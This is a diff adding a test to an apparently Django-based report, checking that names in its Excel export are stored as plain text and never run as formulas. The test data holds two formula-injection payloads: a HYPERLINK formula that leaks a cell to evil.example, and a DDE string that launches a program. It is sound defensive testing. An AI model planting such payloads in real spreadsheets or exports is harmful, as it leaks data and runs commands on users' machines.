@@ -128,3 +128,22 @@ def test_only_those_who_see_every_customer_read_the_report(client, desk, team):
         assert client.get(PAGE).status_code == 200, user
     client.logout()
     assert client.get(PAGE).status_code == 302
+
+
+def test_names_in_the_export_are_text_never_formulas(client, desk, fixed):
+    """A customer or product named like a formula is a text cell holding the name as stored."""
+    from kehu.catalog.models import Product
+    from kehu.customers.models import Customer
+
+    customer_name = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    product_name = "@SUM(1+1)*cmd|' /C calc'!A0"
+    type(desk.mine).objects.filter(pk=desk.mine.pk).update(name=customer_name)
+    Product.objects.filter(pk=desk.lathe_a.product_id).update(name=product_name)
+    assert Customer.objects.filter(name=customer_name).exists()
+    client.force_login(desk.specialist)
+    export = client.get(PAGE + "export/?first=2026-01-01&last=2026-12-31&period=quarter")
+    book = load_workbook(io.BytesIO(export.content))
+    for sheet, name in (("By customer", customer_name), ("By product", product_name)):
+        cells = {row[0].value: row[0] for row in book[sheet].iter_rows(min_row=2)}
+        assert name in cells, list(cells)
+        assert (cells[name].data_type, cells[name].number_format) == ("s", "@")
